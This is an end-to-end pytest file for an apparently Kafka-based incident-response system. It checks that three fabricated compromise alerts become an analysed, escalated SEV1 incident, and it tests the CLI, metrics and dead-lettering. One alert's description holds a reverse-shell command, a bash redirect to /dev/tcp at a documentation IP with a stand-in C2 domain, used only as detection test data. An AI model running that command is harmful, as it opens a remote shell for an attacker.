"""The five services as processes: an alert becomes a detected, analysed, planned, escalated incident."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
import warnings
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from cloudevents.core.bindings.kafka import KafkaMessage, from_binary_event
from kafka import KafkaConsumer, TopicPartition
from prometheus_client.parser import text_string_to_metric_families

from shared.embedded import free_port
from shared.settings import SERVICE_NAMES, VigilSettings
from shared.topics import ALERTS_DLQ, ALERTS_RAW, ANALYSES, COMMANDS, COORDINATION, INCIDENTS, RESPONSES, TopicNames
from tests.factories import alert_dict
from tests.helpers import worker_ports

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]


@dataclass
class Stack:
    env: dict[str, str]
    ports: dict[str, int]
    processes: dict[str, subprocess.Popen[bytes]]
    logs: Path

    def url(self, service: str, path: str) -> str:
        return f"http://127.0.0.1:{self.ports[service]}{path}"

    def cli(self, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "vigil.cli", *args],
            input=stdin,
            capture_output=True,
            text=True,
            env=self.env,
            timeout=60,
        )

    def log_tail(self) -> str:
        return "\n".join(f"--- {p.name}\n{p.read_text()[-3000:]}" for p in sorted(self.logs.glob("*.log")))


def wait_until(check: Any, *, timeout: float, what: str, stack: Stack | None = None) -> Any:
    deadline = time.monotonic() + timeout
    last: Any = None
    while time.monotonic() < deadline:
        try:
            last = check()
        except httpx.HTTPError as exc:  # a service still starting refuses connections: reported at the deadline
            last = exc
        if last and not isinstance(last, Exception):
            return last
        time.sleep(0.25)
    logs = stack.log_tail() if stack else ""
    raise AssertionError(f"{what} not seen within {timeout}s; last: {last!r}\n{logs}")


@pytest.fixture
def stack(settings: VigilSettings, tmp_path: Path) -> Iterator[Stack]:
    ports = {name: free_port(within=worker_ports()) for name in SERVICE_NAMES}
    env = {
        **os.environ,
        "KAFKA_BOOTSTRAP_SERVERS": settings.kafka.bootstrap_servers,
        "DATABASE_URL": settings.database_url,
        "VIGIL_TOPIC_PREFIX": settings.topic_prefix,
        "VIGIL_SESSION_TIMEOUT_MS": "6000",
        "VIGIL_REBALANCE_TIMEOUT_MS": "1000",
        "VIGIL_CONSUMER_POLL_MS": "50",
        "VIGIL_LOG_FORMAT": "text",
        # People act by the names they give here; tests/integration/test_identity.py covers the tokens.
        "VIGIL_ALLOW_UNAUTHENTICATED": "true",
        "VIGIL_REPORTER_URL": f"http://127.0.0.1:{ports['reporter']}",
        "VIGIL_COORDINATOR_URL": f"http://127.0.0.1:{ports['coordinator']}",
        "VIGIL_ANALYZER_URL": f"http://127.0.0.1:{ports['analyzer']}",
        # The attackers here use documentation addresses and example names, which the analyzer drops by default.
        "VIGIL_ANALYZER_DOCUMENTATION_NOISE": "false",
    }
    processes = {}
    for name in SERVICE_NAMES:
        log = open(tmp_path / f"{name}.log", "wb")  # noqa: SIM115 - closed with the process
        processes[name] = subprocess.Popen(
            [sys.executable, "-m", f"services.{name}"],
            env={**env, "VIGIL_HTTP_PORT": str(ports[name])},
            stdout=log,
            stderr=subprocess.STDOUT,
        )
    running = Stack(env=env, ports=ports, processes=processes, logs=tmp_path)
    try:
        for name in SERVICE_NAMES:
            wait_until(
                lambda name=name: httpx.get(running.url(name, "/readyz"), timeout=2).status_code == 200,
                timeout=90,
                what=f"{name} ready",
                stack=running,
            )
        yield running
    finally:
        for process in processes.values():
            if process.poll() is None:
                process.send_signal(signal.SIGTERM)
        codes: dict[str, int | str] = {}
        for name, process in processes.items():
            try:
                codes[name] = process.wait(30)
            except subprocess.TimeoutExpired:
                process.kill()
                codes[name] = "killed"
    # A service drains, commits and exits cleanly on SIGTERM.
    assert codes == dict.fromkeys(SERVICE_NAMES, 0), f"{codes}\n{running.log_tail()}"


def compromise_alerts() -> list[dict[str, Any]]:
    return [
        alert_dict(
            source="wazuh",
            title="sshd: brute force trying to get access to the system",
            severity="medium",
            host="bastion-e2e",
            user="root",
            src_ip="203.0.113.45",
            time="2026-11-24T09:00:00Z",
        ),
        alert_dict(
            source="wazuh",
            title="sshd: authentication success after brute force",
            severity="high",
            host="bastion-e2e",
            user="deploy",
            src_ip="203.0.113.45",
            time="2026-11-24T09:02:00Z",
        ),
        alert_dict(
            source="falco",
            title="Reverse shell spawned in a container",
            description="bash -i >& /dev/tcp/203.0.113.45/4444 0>&1; beacon to c2.bad-actor.example.com",
            severity="critical",
            host="bastion-e2e",
            user="deploy",
            time="2026-11-24T09:03:00Z",
        ),
    ]


TIMELINE_TYPES = {
    "vigil.incident.detected.v1",
    "vigil.incident.analyzed.v1",
    "vigil.response.planned.v1",
    "vigil.incident.escalated.v1",
    "vigil.incident.state_changed.v1",
}


def test_alerts_become_a_handled_incident(stack: Stack, settings: VigilSettings) -> None:
    names = TopicNames(settings.topic_prefix)
    sent = stack.cli("alert", "send", "-", stdin="\n".join(json.dumps(a) for a in compromise_alerts()))
    assert sent.returncode == 0, sent.stderr
    assert "sent 3 alert(s)" in sent.stdout

    def incident_complete() -> dict[str, Any] | None:
        incidents = httpx.get(stack.url("reporter", "/api/v1/incidents"), timeout=5).json()
        if not incidents or incidents[0]["alert_count"] < 3:
            return None
        incident: dict[str, Any] = httpx.get(stack.url("reporter", f"/api/v1/incidents/{incidents[0]['id']}")).json()
        types = {entry["type"] for entry in incident["timeline"]}
        ready = types >= TIMELINE_TYPES and incident["plan"] and incident["plan"]["severity"] == "SEV1"
        return incident if ready else None

    incident = wait_until(incident_complete, timeout=60, what="a complete timeline", stack=stack)
    assert incident["type"] == "system_compromise"
    assert incident["severity"] == "SEV1"
    assert incident["state"] == "detected"
    assert incident["commander"].endswith("@example.com")
    assert {a["title"] for a in incident["alerts"]} == {a["title"] for a in compromise_alerts()}
    indicators = {(i["kind"], i["value"]) for i in incident["analysis"]["indicators"]}
    assert ("ipv4", "203.0.113.45") in indicators
    assert ("domain", "c2.bad-actor.example.com") in indicators
    assert incident["plan"]["playbook"] == "compromise-critical"
    actors = {entry["actor"] for entry in incident["timeline"]}
    assert {"detector", "analyzer", "responder", "coordinator"} <= actors

    # The CLI, for people and for scripts.
    listed = json.loads(stack.cli("incidents", "list", "--json").stdout)
    assert {"id", "type", "severity", "state", "alert_count", "commander", "created_at"} <= set(listed[0])
    shown = json.loads(stack.cli("incidents", "show", incident["id"], "--json").stdout)
    assert shown["id"] == incident["id"]
    assert all(entry["actor"] for entry in shown["timeline"])
    human = stack.cli("incidents", "show", incident["id"][:8])
    assert human.returncode == 0, human.stderr
    assert "Reverse shell" in human.stdout
    # The evidence timeline, from the analyzer: the alerts in time order with what each names.
    evidence = stack.cli("incidents", "evidence", incident["id"][:8], "--json")
    assert evidence.returncode == 0, evidence.stderr
    timeline = json.loads(evidence.stdout)
    assert [a["title"] for a in timeline] == [a["title"] for a in compromise_alerts()]
    shell = timeline[-1]["sightings"]
    assert {"kind": "ipv4", "value": "203.0.113.45", "field": "description", "internal": False} in shell

    # Operator commands go through the coordinator and land on the timeline with the person's name.
    acked = stack.cli("ack", incident["id"], "--actor", "alice@example.com", "--note", "on it")
    assert acked.returncode == 0, acked.stderr
    assert "acknowledged" in acked.stdout
    again = stack.cli("ack", incident["id"], "--actor", "alice@example.com")
    assert again.returncode == 1
    assert "cannot acknowledge an incident that is acknowledged" in again.stderr
    assert stack.cli("resolve", incident["id"], "--actor", "alice@example.com").returncode == 0

    def resolved() -> dict[str, Any] | None:
        current: dict[str, Any] = httpx.get(stack.url("reporter", f"/api/v1/incidents/{incident['id']}")).json()
        return current if current["state"] == "resolved" else None

    final = wait_until(resolved, timeout=30, what="resolved state", stack=stack)
    assert final["acknowledged_at"] and final["resolved_at"]
    people = [e for e in final["timeline"] if e["actor"] == "alice@example.com"]
    assert [e["summary"] for e in people] == [
        "acknowledge requested: on it",
        "state detected -> acknowledged: on it",
        "acknowledge requested",
        "acknowledge rejected: cannot acknowledge an incident that is acknowledged; allowed: investigate "
        "(to investigating), contain (to contained), resolve (to resolved)",
        "resolve requested",
        "state acknowledged -> resolved (fixed)",
    ]
    unknown = stack.cli("ack", "00000000-0000-0000-0000-000000000000", "--actor", "mallory")
    assert unknown.returncode == 1
    assert "no incident 00000000-0000-0000-0000-000000000000" in unknown.stderr

    # Another alert on the resolved host opens a new incident instead of reopening the old one.
    stack.cli("alert", "send", "-", stdin=json.dumps(compromise_alerts()[0]))
    wait_until(
        lambda: len(httpx.get(stack.url("reporter", "/api/v1/incidents")).json()) == 2,
        timeout=30,
        what="a second incident",
        stack=stack,
    )

    # A command retried with the same Idempotency-Key is applied once and answered alike.
    second = next(i for i in httpx.get(stack.url("reporter", "/api/v1/incidents")).json() if i["id"] != incident["id"])
    wait_until(
        lambda: httpx.get(stack.url("reporter", f"/api/v1/incidents/{second['id']}")).json()["commander"],
        timeout=30,
        what="the second incident escalated",
        stack=stack,
    )
    url = stack.url("coordinator", f"/api/v1/incidents/{second['id']}/resolve")
    replies = [
        httpx.post(url, json={"actor": "bob@example.com"}, headers={"Idempotency-Key": "retry-1"}) for _ in range(2)
    ]
    assert [r.status_code for r in replies] == [200, 200]
    assert replies[0].json() == replies[1].json()
    assert replies[0].json()["state"] == "resolved"

    def bobs_entries() -> list[str]:
        timeline = httpx.get(stack.url("reporter", f"/api/v1/incidents/{second['id']}/timeline")).json()
        return [e["summary"] for e in timeline if e["actor"] == "bob@example.com"]

    wait_until(lambda: len(bobs_entries()) >= 2, timeout=30, what="bob's entries", stack=stack)
    assert bobs_entries() == ["resolve requested", "state detected -> resolved (fixed)"]

    # Every event, read by a client that is not aiokafka, is a valid CloudEvent keyed by its incident.
    topics = [names(t) for t in (INCIDENTS, ANALYSES, RESPONSES, COORDINATION, COMMANDS)]
    events = read_with_kafka_python(settings.kafka.bootstrap_servers, topics)
    assert len(events) >= 10
    for record in events:
        event = from_binary_event(KafkaMessage(headers=dict(record.headers), key=record.key, value=record.value))
        assert event.get_specversion() == "1.0"
        assert event.get_subject() == record.key.decode()
        assert event.get_type().startswith("vigil.")
    assert {"vigil.command.acknowledge.v1", "vigil.command.resolve.v1"} <= {
        dict(r.headers)["ce_type"].decode() for r in events
    }
    # The retried command was published once, and caused one state change.
    retried = replies[0].json()["command_id"]
    assert [dict(r.headers)["ce_id"].decode() for r in events].count(retried) == 1
    assert [dict(r.headers).get("ce_causationid", b"").decode() for r in events].count(retried) == 1

    # `vigil events tail` follows the same events, for people and as JSON lines.
    try:
        stopped = subprocess.run(
            [sys.executable, "-m", "vigil.cli", "events", "tail", "--from-beginning", "--json"],
            capture_output=True,
            text=True,
            env=stack.env,
            timeout=8,
        )
    except subprocess.TimeoutExpired as tail:  # following runs until stopped: the timeout is the way out
        out = tail.stdout.decode() if isinstance(tail.stdout, bytes) else (tail.stdout or "")
    else:
        raise AssertionError(f"events tail stopped by itself with exit code {stopped.returncode}:\n{stopped.stderr}")
    tailed = [json.loads(line) for line in out.splitlines()]
    assert {"vigil.incident.detected.v1", "vigil.incident.state_changed.v1"} <= {e["type"] for e in tailed}
    assert all(e["subject"] for e in tailed)

    # Every service exposes parseable Prometheus metrics that pass promtool's checks.
    promtool = shutil.which("promtool")
    for name in SERVICE_NAMES:
        text = httpx.get(stack.url(name, "/metrics")).text
        families = {f.name for f in text_string_to_metric_families(text)}
        assert "vigil_events_consumed" in families, name
        if promtool:
            check = subprocess.run([promtool, "check", "metrics"], input=text, capture_output=True, text=True)
            assert check.returncode == 0, f"{name}: {check.stdout}{check.stderr}"
    if not promtool:
        warnings.warn("promtool is not installed: /metrics was parsed but not linted", stacklevel=1)
    incidents_gauge = httpx.get(stack.url("reporter", "/metrics")).text
    assert 'vigil_incidents{severity="SEV1",state="resolved",type="system_compromise"} 1.0' in incidents_gauge

    # Bad input on the raw topic goes to the dead-letter topic with its reason; the detector goes on.
    from kafka import KafkaProducer

    producer = KafkaProducer(bootstrap_servers=settings.kafka.bootstrap_servers)
    producer.send(names(ALERTS_RAW), b'{"id": "x", "severity": "loud"}').get(timeout=10)
    producer.close()
    dead = wait_until(
        lambda: read_with_kafka_python(settings.kafka.bootstrap_servers, [names(ALERTS_DLQ)]),
        timeout=30,
        what="a dead letter",
        stack=stack,
    )
    assert dead[0].value == b'{"id": "x", "severity": "loud"}'
    headers = dict(dead[0].headers)
    assert headers["vigil_dlq_code"] == b"unknown_format"
    assert "as a native alert it lacks source, time, title" in headers["vigil_dlq_reason"].decode()
    assert httpx.get(stack.url("detector", "/readyz")).status_code == 200


def read_with_kafka_python(bootstrap: str, topics: list[str]) -> list[Any]:
    consumer = KafkaConsumer(bootstrap_servers=bootstrap, group_id=None, consumer_timeout_ms=3000)
    try:
        partitions = [TopicPartition(t, p) for t in topics for p in sorted(consumer.partitions_for_topic(t) or ())]
        consumer.assign(partitions)
        consumer.seek_to_beginning(*partitions)
        return list(consumer)
    finally:
        consumer.close()
